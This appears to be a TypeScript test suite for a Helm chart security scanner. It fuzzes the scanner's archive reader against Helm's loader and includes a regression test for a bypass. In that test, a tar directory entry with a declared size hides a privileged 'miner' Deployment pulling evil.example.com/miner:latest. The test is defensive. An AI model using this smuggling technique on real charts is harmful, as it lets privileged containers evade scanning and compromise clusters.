// Differential fuzz of the chart archive reader against helm's own: chart-oracle (scripts/tools/chart-oracle:
// Go's archive/tar and helm v3.19.5's pkg/chart/loader) reads every archive tagguard reads. Real charts
// packaged by helm, and built ones, are mutated by fast-check (test/scan/support/archive-fuzz.ts); for each
// archive tagguard must either refuse it with a coded ScanError or see exactly the files and bytes helm's
// loader keeps, in the chart and in every subchart archive helm loads. FUZZ_RUNS (default 500; `make fuzz`:
// 10,000) and FUZZ_SEED replay a run. Also: the issue 13 bypass end to end with the real helm.
import { createHash } from 'node:crypto';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { readChartArchive, type ChartArchiveLevel } from '../../../src/scan/archive/chart-archive.ts';
import { isScanError } from '../../../src/scan/errors.ts';
import { defaultScanLimits } from '../../../src/scan/limits.ts';
import { scanChart } from '../../../src/scan/scan-chart.ts';
import { fuzzCaseArb, splitSeed, type SeedArchive } from '../../scan/support/archive-fuzz.ts';
import { buildTgz, chartEntries, tarEntry } from '../../scan/support/tar-builder.ts';
import { packageChart } from '../../env/charts.ts';
import { toolPath } from '../../env/paths.ts';
import { runTool } from '../../env/run-tool.ts';
import { createToolHome, type ToolHome } from '../../env/tool-home.ts';

const env = inject('testEnv');
const RUNS = Number(process.env.FUZZ_RUNS ?? '500');
const SEED = Number(process.env.FUZZ_SEED ?? '13');
const BATCH = 1000;

interface OracleAnswer {
  tar: { name: string; type: string; size: number }[];
  tarError?: string;
  files: { name: string; sha256: string; validUtf8: boolean }[];
  filesError?: string;
  archives?: Record<string, OracleAnswer>;
  chart?: { name: string; version: string };
  chartError?: string;
}

/** Asks the oracle about many archives in one process: one base64 line in, one JSON line out each. */
const askOracle = async (archives: readonly Buffer[]): Promise<OracleAnswer[]> => {
  const answers: OracleAnswer[] = [];
  for (let i = 0; i < archives.length; i += BATCH) {
    const input = archives
      .slice(i, i + BATCH)
      .map((a) => `${a.toString('base64')}\n`)
      .join('');
    const { stdout } = await runTool('chart-oracle', [], { input, timeoutMs: 300_000 });
    answers.push(
      ...stdout
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line) as OracleAnswer),
    );
  }
  expect(answers).toHaveLength(archives.length);
  return answers;
};

const sha256 = (data: Buffer): string => createHash('sha256').update(data).digest('hex');

/** Where tagguard's reading of an accepted archive differs from helm's loader; undefined when it does not. */
const difference = (
  level: ChartArchiveLevel,
  oracle: OracleAnswer | undefined,
  where: string,
): string | undefined => {
  if (oracle === undefined) return `${where}: helm does not load this subchart archive`;
  if (oracle.filesError !== undefined) return `${where}: helm's loader fails (${oracle.filesError})`;
  if (oracle.files.some((f) => !f.validUtf8)) return `${where}: helm keeps a name that is not UTF-8`;
  const helm = Object.fromEntries(oracle.files.map((f) => [f.name, f.sha256]));
  const ours = Object.fromEntries([...level.files].map(([name, data]) => [name, sha256(data)]));
  const names = [...new Set([...Object.keys(helm), ...Object.keys(ours)])].sort();
  const differing = names.filter((n) => helm[n] !== ours[n]);
  if (differing.length > 0 || oracle.files.length !== level.files.size)
    return `${where}: files differ (${differing.slice(0, 5).join(', ')}; helm ${oracle.files.length}, tagguard ${level.files.size})`;
  for (const [path, sub] of level.subcharts) {
    const found = difference(sub, oracle.archives?.[path], `${where} > ${path}`);
    if (found !== undefined) return found;
  }
  return undefined;
};

type Verdict = { accepted: ChartArchiveLevel } | { refused: string };

const tagguardReads = async (archive: Buffer): Promise<Verdict> => {
  try {
    return { accepted: await readChartArchive(archive, defaultScanLimits) };
  } catch (error) {
    // Anything but a coded ScanError is a bug: it would escape as an exception instead of a verdict.
    if (!isScanError(error)) throw error;
    return { refused: error.code };
  }
};

const privileged = `apiVersion: apps/v1
kind: Deployment
metadata: {name: miner}
spec:
  selector: {matchLabels: {app: miner}}
  template:
    metadata: {labels: {app: miner}}
    spec:
      containers:
        - name: miner
          image: evil.example.com/miner:latest
          securityContext: {privileged: true}
`;

describe('chart archives: tagguard refuses or reads what helm reads', () => {
  let home: ToolHome;
  let seeds: SeedArchive[];

  beforeAll(async () => {
    home = await createToolHome(env);
    const packaged = async (
      label: string,
      options: Parameters<typeof packageChart>[2],
    ): Promise<SeedArchive> => splitSeed(label, await readFile(await packageChart(home, home.dir, options)));
    seeds = [
      await packaged('helm: plain chart', {}),
      await packaged('helm: packaged and vendored subcharts', {
        name: 'shop',
        subcharts: [
          { name: 'cache', templates: { 'cm.yaml': 'kind: ConfigMap\n' } },
          { name: 'db', packaged: false, templates: { 'cm.yaml': 'kind: ConfigMap\n' } },
        ],
      }),
      await packaged('helm: long template names (pax)', {
        name: 'longnames',
        templates: { [`${'n'.repeat(130)}.yaml`]: 'kind: ConfigMap\n', '\ufeffbom.yaml': '\ufeffkind: X\n' },
      }),
      splitSeed(
        'built: directories, GNU long name',
        buildTgz([
          { name: 'demo/', type: '5' },
          { name: 'demo/templates/', type: '5' },
          ...chartEntries('demo', { 'a.yaml': 'kind: A\n' }),
          { name: '././@LongLink', type: 'L', data: `demo/templates/${'g'.repeat(110)}.yaml\0` },
          { name: 'ignored', data: 'kind: G\n', magic: 'gnu' },
        ]),
      ),
    ];
  });

  it(`${RUNS} mutated archives (seed ${SEED}): every accepted one is read exactly as helm reads it`, async () => {
    const started = performance.now();
    const cases = fc.sample(fuzzCaseArb(seeds), { numRuns: RUNS, seed: SEED });
    const answers = await askOracle(cases.map((c) => c.archive));
    const oracleMs = performance.now() - started;
    const refusals: Record<string, number> = {};
    const failures: string[] = [];
    let accepted = 0;
    let nestedArchives = 0;
    let helmAlsoFails = 0;
    const helmChartErrors = new Set<string>();
    for (const [i, { label, archive }] of cases.entries()) {
      const verdict = await tagguardReads(archive);
      const oracle = answers[i];
      if ('refused' in verdict) {
        refusals[verdict.refused] = (refusals[verdict.refused] ?? 0) + 1;
        if (oracle?.filesError !== undefined) helmAlsoFails++;
        continue;
      }
      accepted++;
      nestedArchives += verdict.accepted.subcharts.size;
      if (oracle?.chartError !== undefined) helmChartErrors.add(oracle.chartError.slice(0, 100));
      const found = difference(verdict.accepted, oracle, 'archive');
      if (found !== undefined)
        failures.push(`case ${i} (${label}): ${found}\n  ${archive.toString('base64')}`);
    }
    const summary = {
      runs: RUNS,
      seed: SEED,
      accepted,
      subchartArchivesCompared: nestedArchives,
      refused: refusals,
      refusedWhereHelmsLoaderAlsoFails: helmAlsoFails,
      // Helm's Chart.yaml/values.yaml validation, past reading the archive: such a render fails.
      acceptedButHelmChartInvalid: [...helmChartErrors].slice(0, 5),
      differing: failures.length,
      ms: Math.round(performance.now() - started),
      oracleMs: Math.round(oracleMs),
    };
    console.log(`archive differential: ${JSON.stringify(summary)}`);
    expect(failures.slice(0, 5)).toEqual([]);
    // The generator must reach both sides, or the property says nothing.
    expect(accepted).toBeGreaterThan(RUNS / 20);
    expect(Object.keys(refusals).length).toBeGreaterThan(3);
  });

  it('the issue 13 bypass: helm renders the Deployment hidden behind a sized directory; tagguard refuses it', async () => {
    const seed = seeds[0]!;
    const hiddenEntry = tarEntry({ name: `${seed.top}/templates/miner.yaml`, data: privileged });
    const sizedDirectory = tarEntry({
      name: `${seed.top}/templates/`,
      type: '5',
      declaredSize: hiddenEntry.length,
      rawData: hiddenEntry,
    });
    const archive = gzipSync(Buffer.concat([...seed.entries, sizedDirectory, Buffer.alloc(1024)]));
    const file = join(home.dir, 'bypass.tgz');
    await writeFile(file, archive);

    // The attack is real: helm's loader reads the hidden entry and renders the privileged container.
    const { stdout } = await runTool('helm', ['template', 'x', file], { env: home.env });
    expect(stdout).toContain('privileged: true');
    const [oracle] = await askOracle([archive]);
    expect(oracle?.files.map((f) => f.name)).toContain('templates/miner.yaml');

    // tagguard never calls it Trusted: refused, rendered with helm or read statically.
    for (const helmBinary of [toolPath('helm'), undefined]) {
      await expect(scanChart(archive, {}, { helmBinary })).rejects.toMatchObject({
        code: 'AmbiguousArchive',
      });
    }
  });
});
